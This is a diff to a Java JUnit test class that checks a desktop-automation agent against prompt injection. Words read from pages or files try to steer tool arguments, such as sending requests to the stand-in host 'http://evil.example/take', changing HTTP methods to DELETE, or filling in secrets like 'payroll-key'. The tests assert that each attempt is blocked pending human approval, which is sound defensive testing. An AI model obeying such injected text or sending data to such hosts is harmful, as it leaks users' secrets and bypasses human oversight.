@@ -4,6 +4,7 @@ import static org.assertj.core.api.Assertions.assertThat;
 
 import com.fasterxml.jackson.databind.JsonNode;
 import com.fasterxml.jackson.databind.node.ObjectNode;
+import dev.deskhand.tools.spi.Action;
 import dev.deskhand.tools.spi.Effect;
 import dev.deskhand.tools.spi.Source;
 import dev.deskhand.tools.spi.Value;
@@ -11,12 +12,15 @@ import dev.deskhand.workflows.journal.OnceMore;
 import dev.deskhand.workflows.journal.RunEvent;
 import dev.deskhand.workflows.journal.RunStatus;
 import dev.deskhand.workflows.journal.SampleEvents;
+import dev.deskhand.workflows.policy.ArgumentKinds;
 import java.io.IOException;
 import java.nio.file.Files;
 import java.nio.file.Path;
-import java.util.LinkedHashMap;
+import java.util.ArrayList;
 import java.util.List;
 import java.util.Map;
+import java.util.Set;
+import java.util.function.Consumer;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 
@@ -43,96 +47,219 @@ class InjectionTest {
             "attacks[src.n - 1]",
             "src.text + ''");
 
-    /** Every argument that steers an action, and what the attacker wants there. */
-    private static final Map<String, String> TARGETS = targets();
+    private static final String EVIL = InjectionTargets.EVIL;
+    private static final String GIVEN = InjectionTargets.GIVEN;
 
-    private static final String EVIL = "http://evil.example/take";
-    private static final String GIVEN = "payroll.xlsx";
-
-    private static Map<String, String> targets() {
-        var all = new LinkedHashMap<String, String>();
-        all.put("browser.open {} url", EVIL);
-        all.put("browser.sign_in {'username':'u','password':{'secret':'s'}} url", EVIL);
-        all.put("browser.sign_in {'url':'http://office.example/','password':{'secret':'s'}} username", "eve");
-        all.put("browser.sign_in {'url':'http://office.example/','username':'u'} password", "guess");
-        all.put("browser.sign_in {'url':'http://office.example/','username':'u'} password/secret", "payroll-key");
-        all.put("browser.fill {} fields/Key/secret", "payroll-key");
-        all.put("browser.read_table {} url", EVIL);
-        all.put("browser.find_row {'where':{'a':'b'}} url", EVIL);
-        all.put("browser.download {'target':'x'} as", GIVEN);
-        all.put("browser.download {} url", EVIL);
-        all.put("browser.screenshot {} name", GIVEN);
-        all.put("browser.upload {'target':'x'} file", GIVEN);
-        all.put("http.request {'method':'GET'} url", EVIL);
-        all.put("http.request {'method':'POST'} url", EVIL);
-        all.put("http.request {'url':'http://office.example/a'} method", "DELETE");
-        all.put("http.request {'url':'http://office.example/a'} method ", "POST");
-        all.put("http.request {'method':'GET','url':'http://office.example/a'} headers/X-Forward", EVIL);
-        all.put("http.request {'method':'GET','url':'http://office.example/a'} auth/bearer/secret", "payroll-key");
-        all.put("http.request {'method':'GET','url':'http://office.example/a'} save_as", GIVEN);
-        all.put("sheet.write {'items':[]} file", GIVEN);
-        all.put("sheet.append {'items':[]} file", GIVEN);
-        all.put("sheet.update {'key':'a','items':[]} file", GIVEN);
-        all.put("file.copy {'to':'mine.xlsx'} file", GIVEN);
-        all.put("file.copy {'file':'a.xlsx'} to", GIVEN);
-        all.put("file.rename {'to':'mine.xlsx'} file", GIVEN);
-        all.put("file.rename {'file':'a.xlsx'} to", "./Payroll.xlsx");
-        return all;
-    }
+    /** Their file is looked at only, which a file's name from outside may say. */
+    private static final Set<String> LOOKS_AT_FILES = Set.of("sheet.read");
 
     @TempDir
     Path folder = Path.of("");
 
     private int cases;
 
+    /** One attack: an argument of an action, and how the words that are wanted there are read. */
+    private record Attack(String action, String given, String argument, String wanted, String reading, String shape) {
+
+        ObjectNode with() {
+            String own = shape.replace("attacks", "['" + wanted + "','" + wanted + "x']");
+            ObjectNode with = (ObjectNode) SampleEvents.json(given);
+            put(with, argument.split("/"), "${" + own + "}");
+            return with;
+        }
+
+        String step() {
+            return "{use: " + action + ", with: " + with() + "}";
+        }
+    }
+
+    private static void eachOf(Map<String, String> targets, Consumer<Attack> attack) {
+        targets.forEach((target, wanted) -> SOURCES.values()
+                .forEach(reading -> SHAPES.forEach(shape -> {
+                    if (wanted.equals(EVIL) && shape.contains("attacks")) {
+                        return; // the author named that host
+                    }
+                    String[] parts = target.split(" ");
+                    attack.accept(new Attack(parts[0], parts[1], parts[2], wanted, reading, shape));
+                })));
+    }
+
     @Test
     void noWordReadAnywhereSteersAnAction() {
-        TARGETS.forEach((target, wanted) -> SOURCES.forEach((source, reading) -> SHAPES.forEach(shape -> {
-            if (wanted.equals(EVIL) && shape.contains("attacks")) {
-                return; // the author named that host
-            }
-            String[] parts = target.split(" ");
-            attack(parts[0], parts[1], parts[2], wanted, reading, shape, source + " / " + shape + " / " + target);
-        })));
+        eachOf(InjectionTargets.STEERING, attack -> {
+            Office office = attacked(attack, "  - " + attack.step() + "\n");
+            assertThat(office.state()
+                            .openApprovals()
+                            .getFirst()
+                            .request()
+                            .reason()
+                            .en())
+                    .as("%s", attack)
+                    .containsAnyOf("comes from", "because of", "would put data");
+        });
         System.out.println("injection: " + cases + " attacks, none carried out");
         assertThat(cases).isGreaterThanOrEqualTo(200);
     }
 
-    private void attack(
-            String action, String given, String argument, String wanted, String reading, String shape, String name) {
-        String own =
-                shape.contains("attacks") ? shape.replace("attacks", "['" + wanted + "','" + wanted + "x']") : shape;
-        ObjectNode with = (ObjectNode) SampleEvents.json(given);
-        put(with, argument.split("/"), "${" + own + "}");
+    @Test
+    void noWordReadAnywhereMakesACallDoMoreThanAPersonHasSeen() {
+        eachOf(InjectionTargets.GRAVER, attack -> attacked(attack, "  - " + attack.step() + "\n"));
+        assertThat(cases).isGreaterThanOrEqualTo(100);
+    }
+
+    private Office attacked(Attack attack, String step) {
         var tools = new ObedientTools();
-        tools.attack = wanted;
+        tools.attack = attack.wanted();
         Office office = new Office(folder, tools.catalog());
-        office.begin(plan(reading, "  - use: " + action + "\n    with: " + with + "\n"), "{'book':'" + GIVEN + "'}");
+        office.begin(plan(attack.reading(), step), "{'book':'" + GIVEN + "'}");
         office.advance();
         cases++;
         String last = office.events().getLast().toString();
-        assertThat(tools.done).as("read at all: %s, %s", name, last).isNotEmpty();
-        assertThat(tools.done.stream().filter(done -> isAttack(done, action, argument, wanted)))
-                .as(name)
+        assertThat(tools.done).as("read at all: %s, %s", attack, last).isNotEmpty();
+        assertThat(tools.done.stream().filter(done -> isAttack(done, attack)))
+                .as("%s", attack)
                 .isEmpty();
-        assertThat(office.state().status()).as("%s: %s", name, last).isEqualTo(RunStatus.WAITING_FOR_APPROVAL);
-        assertThat(office.state().openApprovals().getFirst().request().reason().en())
-                .as(name)
-                .containsAnyOf("comes from", "because of", "would put data");
+        assertThat(office.state().status()).as("%s: %s", attack, last).isEqualTo(RunStatus.WAITING_FOR_APPROVAL);
+        return office;
     }
 
-    private static boolean isAttack(ObedientTools.Done done, String action, String argument, String wanted) {
-        JsonNode there = done.arguments().at("/" + argument);
-        return done.action().equals(action) && there.asText().contains(wanted)
+    /** A look has no gate to wait at: it is not made, and a person is asked what happened. */
+    @Test
+    void noWordReadAnywhereSteersALookWhetherAChangeWasMade() {
+        eachOf(InjectionTargets.STEERING, attack -> looked(attack));
+        eachOf(InjectionTargets.GRAVER, attack -> looked(attack));
+        assertThat(cases).isGreaterThanOrEqualTo(200);
+    }
+
+    private void looked(Attack attack) {
+        var tools = new ObedientTools();
+        tools.attack = attack.wanted();
+        Office office = new Office(folder, tools.catalog());
+        office.begin(
+                plan(
+                        attack.reading(),
+                        "  - {use: http.request, with: {method: POST, url: 'http://office.example/a'}, expect: '1 == 2',"
+                                + " verify: {use: " + attack.action() + ", with: " + attack.with()
+                                + ", happened: output.flag}}\n"),
+                "{'book':'" + GIVEN + "'}");
+        office.advance();
+        office.approve();
+        tools.done.clear();
+        office.advance();
+        cases++;
+        assertThat(tools.done.getFirst().arguments().path("method").asText()).isEqualTo("POST");
+        assertThat(tools.done.stream().skip(1).filter(done -> isAttack(done, attack)))
+                .as("%s", attack)
+                .isEmpty();
+        assertThat(office.state().openQuestions()).as("%s", attack).hasSize(1);
+    }
+
+    /** To take a change back is a change as well: what it was told by a page is shown before. */
+    @Test
+    void noWordReadAnywhereSteersAnUndo() {
+        eachOf(InjectionTargets.STEERING, attack -> undone(attack));
+        eachOf(InjectionTargets.GRAVER, attack -> undone(attack));
+        assertThat(cases).isGreaterThanOrEqualTo(200);
+    }
+
+    private void undone(Attack attack) {
+        var tools = new ObedientTools();
+        tools.attack = attack.wanted();
+        Office office = new Office(folder, tools.catalog());
+        office.begin(
+                "on_error: undo\n"
+                        + plan(
+                                attack.reading(),
+                                "  - {use: http.request, with: {method: POST, url: 'http://office.example/a'}, undo: "
+                                        + attack.step() + "}\n  - {use: http.request, with: {method: GET,"
+                                        + " url: 'http://office.example/'}, expect: '1 == 2'}\n"),
+                "{'book':'" + GIVEN + "'}");
+        office.advance();
+        office.approve();
+        tools.done.clear();
+        office.advance();
+        cases++;
+        assertThat(tools.done.stream().skip(1).filter(done -> isAttack(done, attack)))
+                .as("%s", attack)
+                .isEmpty();
+        assertThat(office.state().status())
+                .as("%s: %s", attack, office.events().getLast())
+                .isEqualTo(RunStatus.WAITING_FOR_APPROVAL);
+    }
+
+    /** Whoever adds an action says what its arguments are for, and what an attacker would want of those that steer it. */
+    @Test
+    void everyArgumentOfEveryActionIsAttackedOrSaidToSteerNothing() {
+        var unsaid = new ArrayList<String>();
+        for (Action action : ArgumentKinds.actions()) {
+            String name = action.description().name();
+            for (String argument : ArgumentKinds.of(action)) {
+                boolean steers = action.description().controlArguments().contains(argument);
+                boolean attacked = InjectionTargets.STEERING.keySet().stream()
+                        .map(target -> target.split(" "))
+                        .anyMatch(target -> target[0].equals(name) && target[2].split("/")[0].equals(argument));
+                if (steers ? !attacked && !LOOKS_AT_FILES.contains(name) : !ArgumentKinds.isListed(action, argument)) {
+                    unsaid.add(name + " " + argument);
+                }
+            }
+        }
+        assertThat(unsaid)
+                .as("give these a target in InjectionTargets, or say in ArgumentKinds what they are for")
+                .isEmpty();
+    }
+
+    /** What is put into a page that a run was led to, and that nobody named, is read by whoever made that page. */
+    @Test
+    void nothingIsPutIntoAPageOfAHostThatNobodyNamedUnseen() {
+        for (var one : ArgumentKinds.PUT_INTO_PAGES) {
+            for (String led : List.of("evil.example", "office.example")) {
+                var tools = new ObedientTools();
+                tools.leadsTo = led;
+                Office office = new Office(folder, tools.catalog());
+                office.begin(
+                        plan("- {use: browser.hover, with: {target: Menu}}", "  - " + step(one, "salaries") + "\n"),
+                        "{'book':'" + GIVEN + "'}");
+                boolean named = led.equals("office.example");
+                assertThat(office.advance())
+                        .as("%s at %s", one, led)
+                        .isEqualTo(named ? Advance.ENDED : Advance.WAITING);
+                if (!named) {
+                    assertThat(office.state()
+                                    .openApprovals()
+                                    .getFirst()
+                                    .request()
+                                    .reason()
+                                    .en())
+                            .as("%s", one)
+                            .contains("it would put data into a page of evil.example");
+                }
+            }
+        }
+    }
+
+    private static String step(ArgumentKinds.PutIn put, String words) {
+        ObjectNode with = (ObjectNode) SampleEvents.json(put.others());
+        with.set(put.argument(), ArgumentKinds.with(put.value(), put.action().equals("browser.press") ? "x" : words));
+        return "{use: " + put.action() + ", with: " + with + "}";
+    }
+
+    private static boolean isAttack(ObedientTools.Done done, Attack attack) {
+        JsonNode there = done.arguments().at("/" + attack.argument());
+        return done.action().equals(attack.action()) && there.asText().contains(attack.wanted())
                 || done.effect().isAtLeast(Effect.CHANGE);
     }
 
     private static void put(ObjectNode with, String[] path, String value) {
         ObjectNode in = with;
-        for (int i = 0; i < path.length - 1; i++) {
+        for (int i = 0; i < path.length - 1 && !path[i + 1].equals("0"); i++) {
             in = in.withObject("/" + path[i]);
         }
-        in.put(path[path.length - 1], value);
+        String last = path[path.length - 1];
+        if (last.equals("0")) {
+            in.withArrayProperty(path[path.length - 2]).add(value);
+        } else {
+            in.put(last, value);
+        }
     }
 
     private static String plan(String reading, String step) {
@@ -273,14 +400,12 @@ class InjectionTest {
     @Test
     void whatAnExplorerReadAtOneHostGoesToNoOtherUnseen() {
         String home = "- {use: browser.open, with: {url: 'http://office.example/'}}\n";
-        for (String out : List.of(
+        var ways = new ArrayList<>(List.of(
                 "- {use: browser.open, with: {url: 'http://office.example/?q=salaries'}}",
                 "- {use: browser.open, with: {url: 'http://office.example/salaries'}}",
-                "- {use: http.request, with: {method: GET, url: 'http://office.example/', query: {q: salaries}}}",
-                home + "- {use: browser.fill, with: {fields: {Search: salaries}}}",
-                home + "- {use: browser.type, with: {target: Search, text: salaries}}",
-                home + "- {use: browser.press, with: {target: Search, keys: [s, a, l]}}",
-                home + "- {use: browser.upload, with: {target: Attachment, file: salaries.xlsx}}")) {
+                "- {use: http.request, with: {method: GET, url: 'http://office.example/', query: {q: salaries}}}"));
+        ArgumentKinds.PUT_INTO_PAGES.forEach(one -> ways.add(home + "- " + step(one, "salaries")));
+        for (String out : ways) {
             var office = exploring(out);
             assertThat(office.advance()).as(out).isEqualTo(Advance.WAITING);
             assertThat(office.state()
